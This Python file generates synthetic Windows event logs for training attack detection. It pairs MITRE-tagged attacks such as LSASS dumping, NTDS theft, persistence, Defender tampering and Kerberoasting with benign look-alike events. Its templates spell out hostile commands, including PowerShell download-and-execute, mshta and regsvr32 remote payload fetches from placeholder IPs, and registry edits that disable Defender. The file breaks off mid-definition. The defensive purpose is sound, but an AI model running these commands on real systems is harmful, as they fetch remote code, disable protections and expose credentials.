"""Events of attacks and of their ordinary neighbours, each made by a call of its maker."""

from __future__ import annotations

import random

from training.example import BENIGN
from training.forms import security, windows_logs
from training.forms.facts import Facts
from training.forms.scene import Scene
from training.forms.sysmon import stream_created, tampering, wmi_subscription
from training.generators.event_rows import (
    EventTemplate,
    Maker,
    access,
    connected,
    created_file,
    database,
    directory,
    directory_value,
    draw,
    driver,
    handled,
    loaded,
    member,
    piped,
    process,
    service,
    set_value,
    shared,
    task,
    thread,
    ticket,
)

_S32 = "C:\\Windows\\System32\\"
_LSASS = "«C:\\Windows\\System32¦C:\\Windows\\system32¦C:\\WINDOWS\\system32»\\lsass.exe"
_LSASS_DEVICE = "\\Device\\HarddiskVolume«1¦2¦3¦4»\\Windows\\System32\\lsass.exe"
# Where a user, or what a user ran, can write.
_OWN = "«C:\\Users\\‹user›\\«Downloads¦Desktop¦AppData\\Local\\Temp¦AppData\\Roaming¦Documents»¦C:\\Users\\Public¦C:\\Windows\\Temp¦C:\\Temp¦C:\\ProgramData¦C:\\PerfLogs¦‹dir›»\\‹name›.exe"
_SHELLS = f"«{_S32}WindowsPowerShell\\v1.0\\powershell.exe¦{_S32}cmd.exe¦{_S32}rundll32.exe¦{_S32}wscript.exe¦{_S32}mshta.exe¦{_S32}cscript.exe¦{_S32}regsvr32.exe»"
_DUMPERS = f"«{_OWN}¦C:\\Tools\\«procdump64¦procdump¦nanodump¦mimikatz¦dumpert».exe¦{_S32}rundll32.exe¦{_S32}WindowsPowerShell\\v1.0\\powershell.exe¦{_S32}rdrleakdiag.exe¦{_S32}notepad.exe»"
_FULL = "«0x1010¦0x1038¦0x1410¦0x1438¦0x143a¦0x1fffff¦0x1f1fff¦0x1f0fff¦0x101410¦0x1f3fff¦0x1410»"
_LEGIT = "«C:\\Program Files\\‹Word›\\‹name›.exe¦C:\\Windows\\System32\\«svchost¦services¦msiexec¦taskhostw».exe¦C:\\Program Files (x86)\\‹Word› ‹Word›\\‹name›.exe»"
_PAYLOAD = "«powershell.exe -nop -w hidden -enc ‹enc›¦cmd.exe /c ‹dir›\\‹name›.bat¦rundll32.exe C:\\Users\\Public\\‹name›.dll,‹Word›¦C:\\Users\\Public\\‹name›.exe¦C:\\Users\\‹user›\\AppData\\Roaming\\‹name›.exe¦mshta.exe http://‹ip›/‹name›.hta¦wscript.exe C:\\ProgramData\\‹name›.vbs¦regsvr32.exe /s /u /i:http://‹ip›/‹name›.sct scrobj.dll»"
_TASK = "\\«‹name›¦‹Word›Update¦Microsoft\\Windows\\‹Word›\\‹name›»"
_USER_HIVE = "HKU\\S-1-5-21-1‹pid›-‹pid›-‹pid›-1001"
_GUIDS = "«%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2} {19195a5b-6da0-11d0-afd3-00c04fd930c9}¦%%7688 {1131f6aa-9c07-11d1-f79f-00c04fc2dcd2} {19195a5b-6da0-11d0-afd3-00c04fd930c9}¦%%7688 {89e95b76-444d-4c62-991a-0facbeda640c} {19195a5b-6da0-11d0-afd3-00c04fd930c9}»"
_DOMAIN_OBJECT = "«%{19195a5b-6da0-11d0-afd3-00c04fd930c9}¦domainDNS»"


def _replication(*, by_machine: bool) -> Maker:
    """4662 with replication rights: ordinary between domain controllers, whose names end in `$`."""

    def make(rng: random.Random, scene: Scene) -> Facts:
        user = draw(rng, "‹host›$").upper() if by_machine else draw(rng, "‹user›")
        sid = draw(rng, "S-1-5-21-1‹pid›-‹pid›‹pid›-‹pid›‹pid›-1‹pid›")  # SYSTEM would hide who asked
        own = scene._replace(user=user, domain=draw(rng, "‹domain›"), sid=sid, logon_id=draw(rng, "0x‹pid›a1"))
        return directory(_DOMAIN_OBJECT, "0x100", _GUIDS, "%‹guid›")(rng, own)

    return make


def _log_clear(channel: str) -> Maker:
    def make(rng: random.Random, scene: Scene) -> Facts:
        if rng.random() < 0.4:
            return security.log_cleared(rng, scene)
        return windows_logs.log_cleared_system(rng, scene, draw(rng, channel))

    return make


def _subscription(rng: random.Random, scene: Scene) -> Facts:
    name = draw(rng, "«‹name›¦‹Word›Updater¦SCM Event ‹Word›»")
    consumer = draw(rng, f'CommandLineEventConsumer="{name}"; CommandLineTemplate = "{_PAYLOAD}"')
    cause = draw(
        rng,
        'Binding EventFilter: instance of __EventFilter { EventNamespace = "root\\\\cimv2"; Query = "SELECT * FROM __InstanceModificationEvent WITHIN ‹n› WHERE TargetInstance ISA \'Win32_«PerfFormattedData_PerfOS_System¦LocalTime¦LogonSession»\'"; }',
    )
    return windows_logs.wmi_permanent(rng, scene, name, consumer, cause)


def _subscription_legit(rng: random.Random, scene: Scene) -> Facts:
    cause = 'Binding EventFilter: instance of __EventFilter { Name = "SCM Event Log Filter"; Query = "select * from MSFT_SCMEventLogEvent"; }'
    consumer = draw(rng, 'NTEventLogEventConsumer="«SCM Event Log Consumer¦‹Word› Log Consumer»"')
    return windows_logs.wmi_permanent(rng, scene, "SCM Event Log Filter", consumer, cause)


def _sysmon_wmi(rng: random.Random, scene: Scene) -> Facts:
    kind = rng.choice((19, 20))
    name = draw(rng, '"«‹name›¦‹Word›Check»"')
    if kind == 19:
        query = draw(
            rng,
            "SELECT * FROM __InstanceModificationEvent WITHIN ‹n› WHERE TargetInstance ISA 'Win32_«PerfFormattedData_PerfOS_System¦LocalTime»'",
        )
        return wmi_subscription(
            rng, scene, 19, {"EventNamespace": '"root\\\\cimv2"', "Name": name, "Query": f'"{query}"'}
        )
    return wmi_subscription(
        rng,
        scene,
        20,
        {"Name": name, "Type": rng.choice(("Command Line", "Script")), "Destination": draw(rng, f'"{_PAYLOAD}"')},
    )


def _created_account(pattern: str) -> Maker:
    return lambda rng, scene: security.account_created(rng, scene, draw(rng, pattern))


def _defender_off(rng: random.Random, scene: Scene) -> Facts:
    root = "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\"
    name = draw(
        rng,
        "«Real-Time Protection\\DisableRealtimeMonitoring¦DisableAntiSpyware¦Real-Time Protection\\DisableBehaviorMonitoring¦Exclusions\\Paths\\«C:\\¦C:\\Users\\Public¦‹dir›»¦Exclusions\\Extensions\\.exe¦Exclusions\\Processes\\‹name›.exe»",
    )
    if rng.random() < 0.4:
        return windows_logs.defender_state(rng, scene, rng.choice((5001, 5010, 5012)))
    is_exclusion = "Exclusions" in name
    return windows_logs.defender_state(
        rng, scene, 5007, "" if is_exclusion else f"{root}{name} = 0x0", f"{root}{name} = 0x{0 if is_exclusion else 1}"
    )


def _audit_off(rng: random.Random, scene: Scene) -> Facts:
    return security.audit_policy(rng, scene, rng.choice(("%%8448", "%%8448, %%8450")))


def _found(label: str, threats: str) -> EventTemplate:
    def make(rng: random.Random, scene: Scene) -> Facts:
        path = draw(rng, f"file:_{_OWN}")
        return windows_logs.defender_found(
            rng, scene, rng.choice((1116, 1117)), draw(rng, threats), path, draw(rng, _SHELLS)
        )

    return EventTemplate(f"defender-found-{label}", label, make)


# (name, technique, what shows it)
_ATTACKS: tuple[tuple[str, str, Maker], ...] = (
    (
        "lsass-access-dump",
        "T1003.001",
        access(
            _DUMPERS,
            _LSASS,
            _FULL,
            "«C:\\Windows\\System32\\dbgcore.DLL¦C:\\Windows\\System32\\dbghelp.dll¦UNKNOWN(‹hex›)¦»",
        ),
    ),
    ("lsass-access-odd-image", "T1003.001", access(_OWN, _LSASS, _FULL, "UNKNOWN(‹hex›)")),
    (
        "lsass-access-script",
        "T1003.001",
        access(
            _SHELLS,
            _LSASS,
            _FULL,
            "«C:\\Windows\\assembly\\NativeImages_v4.0.30319_64\\mscorlib\\mscorlib.ni.dll¦UNKNOWN(‹hex›)¦C:\\Windows\\System32\\comsvcs.dll»",
        ),
    ),
    ("lsass-handle-4656", "T1003.001", handled(4656, "Process", _LSASS_DEVICE, _DUMPERS, _FULL)),
    (
        "lsass-handle-4663",
        "T1003.001",
        handled(4663, "Process", _LSASS_DEVICE, _DUMPERS, "«0x10¦0x1410¦0x1fffff¦0x10»"),
    ),
    (
        "lsass-dump-file",
        "T1003.001",
        created_file(
            _DUMPERS,
            "«‹dir›¦C:\\Windows\\Temp¦C:\\Users\\Public»\\«lsass¦lsass_‹pid›¦lsass.exe_24‹n›¦LSASS¦lsass-‹name›».«dmp¦DMP¦mdmp»",
        ),
    ),
    (
        "lsass-dump-taskmgr",
        "T1003.001",
        created_file(
            f"{_S32}«Taskmgr¦WerFault¦rundll32».exe",
            "C:\\Users\\‹user›\\AppData\\Local\\«Temp¦Temp\\‹n›»\\lsass«¦ (‹n›)¦.exe.‹pid›».«DMP¦dmp»",
        ),
    ),
    (
        "comsvcs-load",
        "T1003.001",
        loaded(f"{_S32}rundll32.exe", f"{_S32}«dbgcore.dll¦dbghelp.dll¦comsvcs.dll»", is_signed=True),
    ),
    (
        "lsass-ssp-load",
        "T1547.005",
        loaded(_LSASS, "«C:\\Windows\\Temp¦C:\\ProgramData¦‹dir›»\\«mimilib¦‹name›».dll", is_signed=False),
    ),
    ("lsass-thread", "T1003.001", thread(_OWN, _LSASS, "-", "-")),
    ("replication-by-user", "T1003.006", _replication(by_machine=False)),
    (
        "ntds-database",
        "T1003.003",
        database(325, "«ntdsutil¦NTDS¦esentutl»", "«‹dir›¦C:\\Windows\\Temp¦C:\\Temp»\\«Active Directory\\¦»ntds.dit"),
    ),
    (
        "ntds-attached",
        "T1003.003",
        database(
            326,
            "«ntdsutil¦esentutl»",
            "«\\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy‹n›\\Windows\\NTDS\\ntds.dit¦C:\\$SNAP_202403‹n›_VOLUMEC$\\Windows\\NTDS\\ntds.dit¦‹dir›\\ntds.dit»",
        ),
    ),
    (
        "ntds-detached",
        "T1003.003",
        database(
            327,
            "«ntdsutil¦esentutl»",
            "«C:\\$SNAP_2024‹n›_VOLUMEC$\\Windows\\NTDS\\ntds.dit¦‹dir›\\Active Directory\\ntds.dit»",
        ),
    ),
    (
        "ntds-moved",
        "T1003.003",
        database(
            216, "«lsass¦ntdsutil»", "\\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy‹n›\\Windows\\NTDS\\ntds.dit"
        ),
    ),
    (
        "ntds-file",
        "T1003.003",
        created_file(
            f"«{_S32}«ntdsutil¦esentutl¦cmd¦wbengine».exe¦{_OWN}»",
            "«‹dir›¦C:\\Users\\Public¦C:\\Temp\\Active Directory»\\«ntds.dit¦ntds_‹name›.dit¦ntds.bak»",
        ),
    ),
    (
        "ntds-handle",
        "T1003.003",
        handled(
            4663,
            "File",
            "«\\Device\\HarddiskVolumeShadowCopy‹n›¦C:»\\Windows\\NTDS\\ntds.dit",
            f"«{_OWN}¦{_S32}cmd.exe¦{_S32}esentutl.exe»",
            "«0x1¦0x120089»",
        ),
    ),
    (
        "thread-odd",
        "T1055",
        thread(
            f"«{_OWN}¦{_SHELLS}»",
            f"«{_S32}«notepad¦svchost¦spoolsv¦winlogon¦explorer¦dllhost».exe¦C:\\Windows\\explorer.exe»",
            "«-¦C:\\Windows\\System32\\KERNEL32.DLL»",
            "«-¦LoadLibraryA¦LoadLibraryW»",
        ),
    ),
    (
        "thread-from-office",
        "T1055",
        thread(
            "C:\\Program Files\\Microsoft Office\\root\\Office16\\«WINWORD¦EXCEL».EXE",
            f"{_S32}«rundll32¦svchost¦notepad¦WerFault».exe",
            "-",
            "-",
        ),
    ),
    (
        "access-inject",
        "T1055",
        access(
            _OWN,
            f"«{_S32}«notepad¦svchost¦RuntimeBroker¦spoolsv».exe¦C:\\Windows\\explorer.exe»",
            "«0x1fffff¦0x147a¦0x143a¦0x2a»",
            "UNKNOWN(‹hex›)",
        ),
    ),
    (
        "tampered",
        "T1055.012",
        lambda rng, scene: tampering(rng, scene, draw(rng, f"«{_OWN}¦{_S32}svchost.exe¦{_S32}notepad.exe»")),
    ),
    (
        "run-key-payload",
        "T1547.001",
        set_value(
            f"«{_SHELLS}¦{_OWN}¦{_S32}reg.exe»",
            f"«HKLM\\SOFTWARE¦{_USER_HIVE}\\Software»\\Microsoft\\Windows\\CurrentVersion\\«Run¦RunOnce¦Policies\\Explorer\\Run»\\«‹name›¦‹Word›Update¦Windows ‹Word›»",
            _PAYLOAD,
        ),
    ),
    (
        "run-key-user-path",
        "T1547.001",
        set_value(
            _OWN,
            f"{_USER_HIVE}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\‹name›",
            "«C:\\Users\\‹user›\\AppData\\«Roaming¦Local\\Temp»¦C:\\Users\\Public¦C:\\ProgramData»\\‹name›.«exe¦vbs¦bat¦js¦scr»",
        ),
    ),
    (
        "startup-folder",
        "T1547.001",
        created_file(
            f"«{_SHELLS}¦{_OWN}»",
            "C:\\«Users\\‹user›\\AppData\\Roaming¦ProgramData»\\Microsoft\\Windows\\Start Menu\\Programs\\Start«U¦u»p\\‹name›.«lnk¦bat¦vbs¦exe¦js¦hta¦url»",
        ),
    ),
    (
        "winlogon-key",
        "T1547.004",
        set_value(
            f"«{_SHELLS}¦{_S32}reg.exe¦{_OWN}»",
            "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\«Shell¦Userinit¦Notify»",
            "«explorer.exe, ¦C:\\Windows\\system32\\userinit.exe,¦»C:\\«ProgramData¦Users\\Public¦Windows\\Temp»\\‹name›.exe",
        ),
    ),
    (
        "image-options",
        "T1546.012",
        set_value(
            f"«{_SHELLS}¦{_S32}reg.exe»",
            "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\«‹name›¦notepad¦chrome».exe\\Debugger",
            "«C:\\Windows\\System32\\cmd.exe¦C:\\Temp\\‹name›.exe¦C:\\Users\\Public\\‹name›.exe -z»",
        ),
    ),
    (
        "accessibility",
        "T1546.008",
        set_value(
            f"«{_SHELLS}¦{_S32}reg.exe»",
            "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\«sethc¦utilman¦osk¦magnify¦narrator».exe\\Debugger",
            "C:\\Windows\\System32\\«cmd¦taskmgr».exe",
        ),
    ),
    (
        "uac-bypass-key",
        "T1548.002",
        set_value(
            f"«{_SHELLS}¦{_OWN}¦{_S32}reg.exe»",
            f"{_USER_HIVE}_Classes\\«ms-settings¦mscfile¦Folder¦exefile»\\shell\\«open¦runas»\\command\\(Default)",
            _PAYLOAD,
        ),
    ),
    (
        "wdigest",
        "T1112",
        set_value(
            f"«{_SHELLS}¦{_S32}reg.exe¦{_OWN}»",
            "HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\UseLogonCredential",
            "DWORD (0x00000001)",
        ),
    ),
    (
        "defender-key",
        "T1685",
        set_value(
            f"«{_SHELLS}¦{_S32}reg.exe¦{_OWN}»",
            "HKLM\\SOFTWARE\\«Policies\\¦»Microsoft\\Windows Defender\\«DisableAntiSpyware¦Real-Time Protection\\DisableRealtimeMonitoring¦Real-Time Protection\\DisableBehaviorMonitoring¦Features\\TamperProtection»",
            "DWORD (0x00000001)",
        ),
    ),
    ("defender-off", "T1685", _defender_off),
    ("audit-off", "T1685.001", _audit_off),
    (
        "log-cleared",
        "T1685.005",
        _log_clear(
            "«System¦Application¦Windows PowerShell¦Microsoft-Windows-Sysmon/Operational¦Microsoft-Windows-PowerShell/Operational¦Microsoft-Windows-TerminalServices-LocalSessionManager/Operational»"
        ),
    ),
    (
        "service-payload",
        "T1543.003",
        service(
            "«‹name›¦‹Word›Svc¦Windows ‹Word› Helper»",
            f"«%COMSPEC% /C start /b {_PAYLOAD}¦C:\\«Users\\Public¦ProgramData¦Windows\\Temp¦PerfLogs»\\‹name›.exe¦cmd.exe /c {_PAYLOAD}»",
            "auto start",
        ),
    ),
    (
        "service-driver",
        "T1543.003",
        service(
            "‹name›",
            "«C:\\Users\\‹user›\\AppData\\Local\\Temp¦C:\\Windows\\Temp¦C:\\ProgramData»\\‹name›.sys",
            "demand start",
        ),
    ),
    (
        "service-psexec",
        "T1569.002",
        service(
            "«PSEXESVC¦PAExec-‹pid›-‹server›¦RemCom_‹name›¦csexecsvc¦BTOBTO¦winexesvc»",
            "«%SystemRoot%\\PSEXESVC.exe¦%SystemRoot%\\PAExec-‹pid›-‹host›.exe¦%SystemRoot%\\‹name›.exe¦%COMSPEC% /Q /c echo cd  ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat»",
            "demand start",
        ),
    ),
    (
        "service-impacket",
        "T1569.002",
        service("«aBcD¦kXqZ¦TfRw¦‹name›»", "%systemroot%\\«kQwErTyU¦ZxCvBnMa¦pLoKiJuH».exe", "demand start"),
    ),
    (
        "service-image-key",
        "T1543.003",
        set_value(
            f"«{_SHELLS}¦{_S32}reg.exe¦{_OWN}»",
            "HKLM\\System\\CurrentControlSet\\Services\\«‹name›¦‹Word›Svc»\\«ImagePath¦Parameters\\ServiceDll»",
            f"«{_PAYLOAD}¦C:\\ProgramData\\‹name›.dll»",
        ),
    ),
    (
        "task-shell",
        "T1053.005",
        task(
            _TASK,
            "«powershell.exe¦C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe§-nop -w hidden -enc ‹enc›¦powershell§-ep bypass -file C:\\Users\\Public\\‹name›.ps1¦powershell.exe§-c IEX (New-Object Net.WebClient).DownloadString('http://‹ip›/‹name›')»",
        ),
    ),
    (
        "task-batch",
        "T1053.005",
        task(
            _TASK,
            "«cmd.exe§/c ‹dir›\\‹name›.bat¦cmd§/c start /b C:\\ProgramData\\‹name›.exe¦C:\\Windows\\System32\\cmd.exe§/c powershell -w hidden -f ‹dir›\\‹name›.ps1»",
        ),
    ),
    (
        "task-proxy",
        "T1053.005",
        task(
            _TASK,
            "«mshta.exe§http://‹ip›/‹name›.hta¦rundll32.exe§C:\\Users\\Public\\‹name›.dll,‹Word›¦regsvr32.exe§/s /u /i:http://‹ip›/‹name›.sct scrobj.dll¦wscript.exe§//b C:\\ProgramData\\‹name›.vbs»",
        ),
    ),
    (
        "task-binary",
        "T1053.005",
        task(
            _TASK,
            "«C:\\Users\\Public¦C:\\ProgramData¦C:\\Windows\\Temp¦C:\\Users\\‹user›\\AppData\\«Roaming¦Local\\Temp»»\\‹name›.exe§",
        ),
    ),
    (
        "task-file",
        "T1053.005",
        created_file(f"«{_SHELLS}¦{_OWN}»", "C:\\Windows\\«System32\\Tasks¦Tasks»\\«‹name›¦‹Word›Update»«¦.job»"),
    ),
    ("wmi-subscription", "T1546.003", _subscription),
    ("wmi-sysmon", "T1546.003", _sysmon_wmi),
    (
        "wmi-consumer-process",
        "T1047",
        process(
            "«C:\\Windows\\System32\\«cmd¦WindowsPowerShell\\v1.0\\powershell¦rundll32».exe»",
            f"{_PAYLOAD}",
            f"{_S32}wbem\\WmiPrvSE.exe",
            f"{_S32}wbem\\wmiprvse.exe -secured -Embedding",
        ),
    ),
    (
        "tool-pipes",
        "T1055",
        piped(
            f"«{_OWN}¦{_S32}rundll32.exe¦{_S32}svchost.exe»",
            "\\«MSSE-‹pid›-server¦msagent_‹n›¦postex_‹n›a¦status_‹n›f¦interprocess_‹n›¦mojo.5688.8052.1838949397870888770b¦wkssvc_‹n›»",
        ),
    ),
    (
        "psexec-pipes",
        "T1569.002",
        piped(
            "«C:\\Windows\\PSEXESVC.exe¦System»",
            "\\«PSEXESVC¦PSEXESVC-‹host›-‹pid›-«stdin¦stdout¦stderr»¦RemCom_communicaton¦csexecsvc¦paexec»",
        ),
    ),
    (
        "admin-share",
        "T1021.002",
        shared(
            "«ADMIN$¦C$»",
            "«PSEXESVC.exe¦‹name›.exe¦Windows\\Temp\\‹name›.exe¦Temp\\‹name›.«dll¦exe¦bat»¦Users\\Public\\‹name›.exe¦__16‹pid›.‹pid›»",
        ),
    ),
    (
        "account-added",
        "T1136.001",
        _created_account("«‹first›¦support_‹n›¦hacker¦backdoor¦svc‹name›¦admin‹n›¦test‹n›¦‹user›»"),
    ),
    (
        "added-to-admins",
        "T1098",
        member(4732, "«Administrators¦Administratoren¦Administrateurs¦Remote Desktop Users¦Backup Operators»"),
    ),
    ("added-to-domain-admins", "T1098", member(4728, "«Domain Admins¦Enterprise Admins¦Schema Admins¦DnsAdmins»")),
    (
        "kerberoast",
        "T1558.003",
        ticket(4769, "«‹user›¦‹first›»", "«svc_‹word›¦MSSQLSvc¦sql_‹word›¦‹first›_svc¦http_‹word›»", "0x17"),
    ),
    ("asrep-roast", "T1558.004", ticket(4768, "«‹user›¦‹first›»", "krbtgt", "0x17", "0")),
    (
        "shadow-credentials",
        "T1556",
        directory_value(
            "CN=‹first›,CN=Users,DC=‹word›,DC=com",
            "user",
            "msDS-KeyCredentialLink",
            "B:828:‹hash›‹hash›:CN=‹first›,CN=Users,DC=‹word›,DC=com",
        ),
    ),
    (
        "spn-added",
        "T1098",
        directory_value(
            "CN=‹first›,CN=Users,DC=‹word›,DC=com", "user", "servicePrincipalName", "«http¦cifs¦MSSQLSvc»/‹name›.‹fqdn›"
        ),
    ),
    (
        "acl-replication",
        "T1222.001",
        directory_value(
            "DC=‹word›,DC=com",
            "domainDNS",
            "nTSecurityDescriptor",
            "O:DAG:DAD:(OA;;CR;1131f6aa-9c07-11d1-f79f-00c04fc2dcd2;;S-1-5-21-‹pid›-‹pid›-‹pid›-1‹n›)",
        ),
    ),
    (
        "vulnerable-driver",
        "T1068",
        driver(
            "«C:\\Users\\‹user›\\AppData\\Local\\Temp¦C:\\Windows\\Temp¦C:\\ProgramData»\\«RTCore64¦gdrv¦dbutil_2_3¦capcom¦mhyprot2¦aswArPot».sys",
            "«Micro-Star International CO., LTD.¦Giga-Byte Technology¦Dell Inc.¦AVAST Software s.r.o.»",
        ),
    ),
    (
        "unmanaged-powershell",
        "T1059.001",
        loaded(
            f"«{_OWN}¦{_S32}«notepad¦rundll32¦msbuild¦installutil».exe»",
            "C:\\Windows\\assembly\\NativeImages_v4.0.30319_«64¦32»\\System.Manaa57fc8cc#\\‹hash›\\System.Management.Automation.ni.dll",
            is_signed=False,
        ),
    ),
    (
        "script-host-network",
        "T1105",
        connected(f"{_S32}«certutil¦bitsadmin¦desktopimgdownldr¦wscript».exe", "«80¦443¦8080¦4444»"),
    ),
    (
        "hidden-stream",
        "T1564.004",
        lambda rng, scene: stream_created(
            rng, scene, draw(rng, _SHELLS), draw(rng, "‹dir›\\‹name›.«txt¦log¦dat»:‹name›.«exe¦dll¦ps1¦vbs»"), "-"
        ),
    ),
)

# The same kinds of event by software that is allowed to do so: only the values differ.
_NEAR_MISSES: tuple[tuple[str, Maker], ...] = (
    ("lsass-low-mask", access(f"«{_LEGIT}¦{_OWN}»", _LSASS, "«0x1000¦0x1400¦0x400¦0x100000»")),
    (
        "other-process-access",
        access(f"«{_OWN}¦{_LEGIT}»", "C:\\Program Files\\‹Word›\\«lsass‹Word›¦‹name›».exe", "«0x1410¦0x1fffff¦0x1010»"),
    ),
    ("lsass-handle-low", handled(4656, "Process", _LSASS_DEVICE, f"«{_LEGIT}¦{_OWN}»", "«0x1000¦0x1400¦0x400»")),
    (
        "dump-of-other",
        created_file(
            f"«{_S32}Taskmgr.exe¦{_S32}WerFault.exe¦C:\\Tools\\procdump64.exe¦{_LEGIT}»",
            "«‹dir›¦C:\\Dumps»\\«‹name›¦w3wp¦explorer¦chrome¦OUTLOOK».«exe_2403‹n›.¦¦»dmp",
        ),
    ),
    ("dbghelp-by-legit", loaded(_LEGIT, f"{_S32}«dbgcore.dll¦dbghelp.dll»", is_signed=True)),
    (
        "rundll32-load",
        loaded(f"{_S32}rundll32.exe", f"{_S32}«shell32¦user32¦davclnt¦ieframe¦‹name›».dll", is_signed=True),
    ),
    (
        "lsass-load",
        loaded(_LSASS, f"{_S32}«msv1_0¦kerberos¦tspkg¦wdigest¦schannel¦cloudAP¦netlogon¦samsrv».dll", is_signed=True),
    ),
    ("replication-by-dc", _replication(by_machine=True)),
    ("ntds-by-system", database(326, "«NTDS¦lsass»", "C:\\Windows\\NTDS\\«ntds.dit¦temp.edb»")),
    (
        "ntds-handle-lsass",
        handled(
            4663,
            "File",
            "C:\\Windows\\NTDS\\«ntds.dit¦edb.log¦edb.chk»",
            f"«{_S32}lsass.exe¦C:\\Program Files\\Windows Defender\\MsMpEng.exe»",
            "«0x1¦0x2»",
        ),
    ),
    (
        "thread-legit",
        thread(
            f"«{_LEGIT}¦{_S32}csrss.exe»",
            f"«{_LEGIT}¦{_S32}svchost.exe»",
            f"{_S32}«ntdll.dll¦KERNELBASE.dll»",
            "«-¦CtrlRoutine»",
        ),
    ),
    (
        "run-key-program",
        set_value(
            f"«{_LEGIT}¦C:\\Windows\\System32\\msiexec.exe»",
            f"«HKLM\\SOFTWARE¦{_USER_HIVE}\\Software»\\Microsoft\\Windows\\CurrentVersion\\Run\\«‹Word›¦‹Word› ‹Word›»",
            '"C:\\Program Files«¦ (x86)»\\‹Word›\\«bin\\¦»‹name›.exe"« /tray¦ -background¦ --startup¦»',
        ),
    ),
    (
        "run-key-other",
        set_value(
            f"«{_SHELLS}¦{_OWN}¦{_LEGIT}»",
            f"«HKLM\\SOFTWARE¦{_USER_HIVE}\\Software»\\«Microsoft\\Windows\\CurrentVersion\\Explorer\\«RunMRU¦FileExts\\.txt¦RecentDocs»¦‹Word›\\Settings»\\«a¦MRUList¦‹name›»",
            "«notepad\\1¦‹name›¦DWORD (0x0000000‹n›)¦Binary Data»",
        ),
    ),
    (
        "start-menu-link",
        created_file(
            f"«{_LEGIT}¦C:\\Windows\\System32\\msiexec.exe»",
            "C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\«‹Word›\\¦»‹Word›.lnk",
        ),
    ),
    (
        "winlogon-default",
        set_value(
            f"{_S32}«winlogon¦svchost».exe",
            "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\«Shell¦AutoLogonSID¦LastUsedUsername¦DefaultUserName»",
            "«explorer.exe¦‹user›¦‹sid›»",
        ),
    ),
    (
        "image-options-legit",
        set_value(
            f"«{_LEGIT}¦{_S32}svchost.exe»",
            "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\‹name›.exe\\«MitigationOptions¦UseLargePages¦CFGOptions»",
            "«DWORD (0x00000001)¦Binary Data»",
        ),
    ),
    (
        "wdigest-off",
        set_value(
            f"«{_S32}svchost.exe¦{_S32}reg.exe»",
            "HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\UseLogonCredential",
            "DWORD (0x00000000)",
        ),
    ),
    (
        "defender-key-on",
        set_value(
            f"«{_S32}svchost.exe¦C:\\Program Files\\Windows Defender\\MsMpEng.exe»",
            "HKLM\\SOFTWARE\\«Policies\\¦»Microsoft\\Windows Defender\\«Real-Time Protection\\DisableRealtimeMonitoring¦DisableAntiSpyware¦Spynet\\SpynetReporting»",
            "DWORD (0x00000000)",
        ),
    ),
    (
        "service-program",
        service(
            "«‹Word› Service¦‹Word›Agent¦‹Word› ‹Word›»",
            '"C:\\Program Files«¦ (x86)»\\‹Word›\\«bin\\¦»‹name›.exe"« -service¦ --run¦»',
        ),
    ),
    (
        "service-driver-legit",
        service(
            "‹name›",
            "«\\SystemRoot\\System32\\drivers\\‹name›.sys¦C:\\Windows\\System32\\DriverStore\\FileRepository\\‹name›.inf_amd64_‹hash›\\‹name›.sys»",
        ),
    ),
    (
        "task-program",
        task(
            "\\«‹Word›\\‹Word›Update¦‹Word› Nightly¦Microsoft\\Office\\Office Automatic Updates 2.0»",
            "C:\\Program Files«¦ (x86)»\\«‹Word›\\‹name›.exe¦Common Files\\Microsoft Shared\\ClickToRun\\OfficeC2RClient.exe»§«/quiet¦--update¦/update SCHEDULEDTASK displaylevel=False¦»",
        ),
    ),
    (
        "tampered-browser",
        lambda rng, scene: tampering(
            rng,
            scene,
            draw(
                rng,
                "C:\\Program Files«¦ (x86)»\\«Google\\Chrome\\Application\\chrome¦Microsoft\\Edge\\Application\\msedge¦Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate¦‹Word›\\‹Word›».exe",
            ),
        ),
    ),
    ("wmi-scm", _subscription_legit),
    ("pipes-legit", piped(_LEGIT, "\\«‹Word›_‹n›¦‹name›.‹pid›¦mojo.‹pid›.‹pid›.‹hash›¦msagent‹Word›»")),
    (
        "share-plain",
        shared(
            "«‹project›¦data$¦software»", "«‹name›.exe¦installers\\‹name›.msi¦‹project›\\‹name›.bat¦Temp\\‹name›.docx»"
        ),
    ),
    (
        "share-admin-read",
        shared(
            "«ADMIN$¦C$»",
            "«CCM\\Logs\\‹name›.log¦CCM\\Temp\\‹name›.dat¦Windows\\System32\\winevt\\Logs\\System.evtx¦ccmsetup\\ccmsetup.log»",
        ),
    ),
    ("ticket-aes", ticket(4769, "«‹user›¦‹first›»", "«svc_‹word›¦MSSQLSvc¦http_‹word›»", "«0x12¦0x11»")),
    ("ticket-machine", ticket(4769, "‹host›$", "«‹host›$¦krbtgt»", "«0x17¦0x12»")),
    ("tgt-preauth", ticket(4768, "«‹user›¦‹first›»", "krbtgt", "«0x12¦0x17»", "2")),
    (
        "directory-attribute",
        directory_value(
            "CN=‹first›,CN=Users,DC=‹word›,DC=com",
            "user",
            "«displayName¦pwdLastSet¦mail¦lastLogonTimestamp¦proxyAddresses»",
            "«‹first› ‹Word›¦‹pid›‹pid›¦‹first›@‹fqdn›»",
        ),
    ),
    ("group-plain", member(4728, "«VPN ‹Word›¦‹Word› Readers¦All Staff‹n›¦Printers ‹Word›¦GG_‹project›»")),
    ("group-plain-local", member(4732, "«Performance Log Users¦‹Word› Users¦Distributed COM Users¦IIS_IUSRS»")),
    (
        "driver-signed",
        driver(
            "C:\\Windows\\System32\\drivers\\«‹name›¦rtkvhd64¦igdkmd64».sys",
